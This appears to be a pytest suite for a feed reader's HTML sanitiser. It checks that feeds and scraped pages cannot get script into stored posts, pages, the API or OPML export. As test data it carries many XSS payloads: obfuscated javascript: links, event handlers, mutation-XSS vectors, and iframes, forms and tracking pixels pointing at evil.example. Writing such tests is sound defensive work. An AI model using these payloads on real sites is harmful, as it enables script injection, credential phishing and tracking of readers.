"""Markup made to run, to lie or to spy: what is stored of it, and what pages, API and lists give out."""

from __future__ import annotations

import json
import re
from html import escape
from urllib.parse import quote

import pytest
from lxml import etree
from selectolax.lexbor import LexborHTMLParser

from hostile.sites import FORUM, NEWS, SETTINGS, Kind
from hostile.target import Post, Source, Target
from support.web import Answer, Web

XSS = "<script>window.taken=1</script><img src=x onerror=window.taken=1>\"'><b>bold</b>"


def names(text: str) -> frozenset[str]:
    return frozenset(text.split())


TAGS = names("""
    a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd
    del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark
    nav ol p pre q rp rt ruby s samp section small strike strong sub summary sup table tbody td tfoot th thead
    time tr tt u ul var wbr
""")
ATTRIBUTES = names("""
    href rel src alt title width height dir lang start reversed type value colspan rowspan scope datetime span
""")
# What pages put in the place of a picture that the reader has not asked for.
WITHHELD = re.compile(r'<span class="withheld" title="[a-z0-9.:-]*">([^<>]*)</span>')
SCHEMES = ("http://", "https://", "mailto:", "magnet:", "ftp://", "gemini://", "tel:", "xmpp:", "irc:", "ircs:")


def faults_in(document: str, place: str) -> list[str]:
    """Whatever a browser would find in this place that is not plain text, structure, a safe link or a picture."""
    found = []
    for element in LexborHTMLParser(document).css(f"{place} *"):
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
        for name, value in element.attributes.items():
            unsafe = name in ("href", "src") and not (value or "").startswith(SCHEMES)
            if unsafe or name not in ATTRIBUTES:
                found.append(f"{element.tag} {name}={value}")
        if element.tag == "a" and element.attributes.get("rel") != "noopener noreferrer":
            found.append(f"a rel={element.attributes.get('rel')}")
    return found


def published(target: Target, world: Web, path: str, html: str, form: str) -> Post:
    """Put HTML into a feed in one of the ways feeds have, or on a page of a site; visit it, and give back the post."""
    if form in PAGES:
        source = on_a_page(target, world, path, html, PAGES[form])
    else:
        world.pages[path] = Answer(document_with(html, form))
        [source] = target.visit(world.url(path))
    assert source["status"] == "ok", source["last_error"]
    [post] = target.posts(source)
    return post


def on_a_page(target: Target, world: Web, path: str, html: str, kind: Kind) -> Source:
    """A site with one item that holds this HTML."""
    number = 1000 + len(world.pages)
    world.pages[path] = Answer(kind.list_of([number]))
    world.pages[kind.path_of(number)] = Answer(kind.page_of(number, html))
    source_id = target.follow(world.url(path), kind=kind.name, settings=SETTINGS[kind.name])
    [source] = target.visit_again(source_id)
    return source


def document_with(html: str, form: str) -> str:
    if form == "json":
        item = {"id": "1", "title": "t", "content_html": html}
        return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]})
    if form == "atom":
        return (
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>f</title><entry><id>1</id><title>t</title>'
            f'<content type="html">{escape(html)}</content></entry></feed>'
        )
    body = f"<![CDATA[{html}]]>" if form == "cdata" else escape(html)
    return f"<rss><channel><item><guid>1</guid><title>t</title><description>{body}</description></item></channel></rss>"


PAGES = {"thread": FORUM, "article": NEWS}
FORMS = ("escaped", "cdata", "atom", "json", *PAGES)


def shown_cleanly(target: Target, world: Web, name: str, *attacks: str) -> list[str]:
    """Publish these in every form; nothing of them may be left anywhere but words. Returns what was stored."""
    html = "".join(f"<p>words {place}</p>{attack}\n" for place, attack in enumerate(attacks))
    assert faults_in(f"<div id=raw>{html}</div>", "#raw"), "an attack that a browser would not even see"
    stored = []
    for form in FORMS:
        post = published(target, world, f"/{name}-{form}", html + "<p>the end</p>", form)
        assert faults_in(f"<div id=stored>{post['content']}</div>", "#stored") == []
        for path in (f"/posts/{post['id']}", f"/posts/{post['id']}/content"):
            page = target.page(path)
            assert len(LexborHTMLParser(page).css(".article")) == 1, path
            assert faults_in(WITHHELD.sub(r"\1", page), ".article") == [], path
        assert target.program.get(f"/api/posts/{post['id']}").json()["content"] == post["content"]
        assert "words 0" in post["content"]
        stored.append(post["content"])
    return stored


def lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines()]


def test_scripts_in_links_are_removed_however_they_are_spelled(target: Target, world: Web) -> None:  # H55
    schemes = (
        "javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#10;ascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "java&NewLine;script&colon;alert(1)",
        " &#14; javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:x",
        "//[javascript:alert(1)",
    )
    for content in shown_cleanly(target, world, "links", *(f'<a href="{scheme}">here</a>' for scheme in schemes)):
        assert "alert" not in content


def test_handlers_and_scripts_are_removed(target: Target, world: Web) -> None:  # H56
    attacks = lines("""
        <script>window.taken=1</script>
        <scr<script>ipt>window.taken=1</scr</script>ipt>
        <img src=x onerror="window.taken=1">
        <b onmouseover=window.taken=1 onclick='window.taken=1'>b</b>
        <details open ontoggle=window.taken=1><summary>s</summary></details>
        <body onload=window.taken=1>
        <a href='https://a.example/' autofocus onfocus=window.taken=1>a</a>
        <img/src='x'/onerror=window.taken=1>
    """)
    for content in shown_cleanly(target, world, "handlers", *attacks):
        assert "<script" not in content


def test_markup_that_changes_its_meaning_when_it_is_read_again_is_removed(target: Target, world: Web) -> None:  # H56
    attacks = lines("""
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></math>
        <svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>
        <noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>
        <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>
        <textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>
        <xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>
        <template><script>alert(1)</script></template>
        <!--><img src=x onerror=alert(1)>-->
        <svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>
    """)
    shown_cleanly(target, world, "mutations", *attacks)


def test_frames_forms_and_instructions_to_the_page_are_removed(target: Target, world: Web) -> None:  # H57
    attacks = lines("""
        <iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='https://evil.example/'></iframe>
        <form action='https://evil.example/'><input type=password name=p><button>Sign in</button></form>
        <base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>
        <link rel=stylesheet href='https://evil.example/x.css'><object data=x></object><embed src=x>
        <frameset><frame src='https://evil.example/'></frameset><applet code=x></applet><portal src=x></portal>
        <video src='https://evil.example/v' autoplay><track src=x></video><dialog open>Sign in here</dialog>
    """)
    for content in shown_cleanly(target, world, "frames", *attacks):
        assert "evil.example" not in content


def test_style_cannot_cover_the_page_or_call_home(target: Target, world: Web) -> None:  # H58
    attacks = lines("""
        <style>body{background:url(https://evil.example/)}@import 'https://evil.example/'</style>
        <div style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/)'>cover</div>
        <p class='bar' id='main'>ours?</p><table background='https://evil.example/'><td bgcolor=red>x</td></table>
        <font color=red face='x' size=7>x</font><center style='width:expression(alert(1))'>x</center>
    """)
    for content in shown_cleanly(target, world, "style", *attacks):
        assert "evil.example" not in content
        assert "style" not in content


def test_pictures_that_count_readers_are_removed_and_real_ones_stay(target: Target, world: Web) -> None:  # H59
    attacks = lines("""
        <img src='https://evil.example/count' width=1 height=1>
        <img src='https://evil.example/count' width='0' height='0'>
        <img src='https://pixel.evil.example/x.gif'>
        <img srcset='https://evil.example/a 1x, javascript:alert(1) 2x' sizes=100vw>
        <picture><source srcset='https://evil.example/s'><img src='https://news.example/real.png'></picture>
        <img src='https://news.example/own.png' srcset='https://evil.example/b 2x' referrerpolicy=unsafe-url>
        <img src='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'>
    """)
    contents = shown_cleanly(target, world, "pictures", *attacks)
    real = ["https://news.example/real.png", "https://news.example/own.png"]
    for form, content in zip(FORMS, contents, strict=True):
        assert "evil.example" not in content
        pictures = LexborHTMLParser(content).css("img")
        # Those of an article are kept beside its text.
        assert [one.attributes["src"] for one in pictures] == ([] if form == "article" else real)


@pytest.fixture(scope="module")
def named(target: Target, world: Web) -> Source:
    """A source whose every name and word is an attack, and which then fails."""
    text = escape(escape(XSS))  # feeds escape HTML in their text once for XML and once more to mean the characters
    item = f"<guid>{text}</guid><title>{text}</title><author>{text}</author><category>{text}</category>"
    item += "<link>https://a.example/</link>"
    world.pages["/named"] = Answer(
        f"<rss version='2.0'><channel><title>{text}</title><item>{item}<description>words</description>"
        f"<enclosure url='https://a.example/{escape(XSS)}' type='{escape(XSS)}' length='1'/></item></channel></rss>"
    )
    answered = target.program.post("/api/sources", {"address": world.url("/named"), "folder": XSS})
    [source] = target.visit_again(answered.json()["id"])
    assert (source["status"], source["title"], source["folder"]) == ("ok", XSS, XSS)
    return source


def test_names_and_words_are_shown_as_text_on_every_page(target: Target, named: Source) -> None:  # H60
    [post] = target.posts(named)
    assert (post["title"], post["author"], post["source"]) == (XSS, XSS, XSS)
    pages = ("/", f"/?source_id={named['id']}", f"/posts/{post['id']}", f"/posts/{post['id']}/content", "/sources")
    for path in (*pages, f"/sources/{named['id']}", f"/sources/rows?id={named['id']}", "/?q=bold"):
        page = LexborHTMLParser(target.page(path))
        assert "window.taken=1" in (page.root.text() if page.root else "") or path == "/?q=bold", path
        assert [one.html for one in page.css("script") if not one.attributes.get("src")] == [], path
        assert page.css("[onerror], img[src=x]") == [], path


def test_words_of_a_reader_come_back_as_text(target: Target) -> None:  # H60
    for path in (f"/?q={quote(XSS)}", f"/?folder={quote(XSS)}", f"/sources?folder={quote(XSS)}"):
        page = LexborHTMLParser(target.page(path))
        assert page.css("[onerror], img[src=x]") == [], path
    missing = target.person.get(f"/{quote(XSS)}")
    assert missing.status == 404
    assert "<script>window" not in missing.text


def test_an_error_that_quotes_a_server_is_shown_as_text(target: Target, world: Web) -> None:  # H60
    hostile = "&lt;script&gt;window.taken=1&lt;/script&gt;"
    world.pages["/evil-root"] = Answer(f"<evil title='{hostile}'>{hostile}</evil>")
    world.pages["/evil-coding"] = Answer("x", headers={"Content-Encoding": "<script>window.taken=1</script>"})
    world.pages["/evil-move"] = Answer(status=302, headers={"Location": "http://<script>window.taken=1</script>/"})
    for source in target.visit(*(world.url(path) for path in ("/evil-root", "/evil-coding", "/evil-move"))):
        assert source["status"] == "failing"
        for path in ("/sources", f"/sources/{source['id']}", f"/?source_id={source['id']}"):
            assert "<script>window" not in target.page(path)


def test_an_exported_list_carries_names_as_text(target: Target, named: Source) -> None:  # H60
    exported = target.program.get("/api/opml")
    assert b"<script" not in exported.body
    [outline] = etree.fromstring(exported.body).iterfind(f".//outline[@xmlUrl='{named['address']}']")
    assert outline.get("text") == XSS
    folders = [folder.get("text") for folder in outline.iterancestors("outline")]
    assert "/".join(reversed(folders)) == XSS  # its folder's: what a slash separates is nested


def test_the_api_never_answers_with_something_a_browser_would_run(target: Target, named: Source) -> None:  # H60
    for path in ("/api/posts", "/api/sources", "/api/stream", f"/api/sources/{named['id']}"):
        answered = target.person.get(path)
        assert answered.headers["content-type"] == "application/json", path
        assert answered.headers["x-content-type-options"] == "nosniff", path


def test_every_way_out_of_our_pages_leaves_no_handle_behind(target: Target, world: Web, named: Source) -> None:  # H62
    attacks = lines("""
        <a href='https://a.example/' target=_blank rel=opener>a</a>
        <a href='https://b.example/' ping='https://c.example/'>b</a>
    """)
    shown_cleanly(target, world, "blank", *attacks)
    [post] = target.posts(named)
    for path in ("/", f"/posts/{post['id']}", f"/posts/{post['id']}/content", "/sources", f"/sources/{named['id']}"):
        for link in LexborHTMLParser(target.page(path)).css("a[target], a[href^=http]"):
            assert "noopener" in (link.attributes.get("rel") or ""), link.html
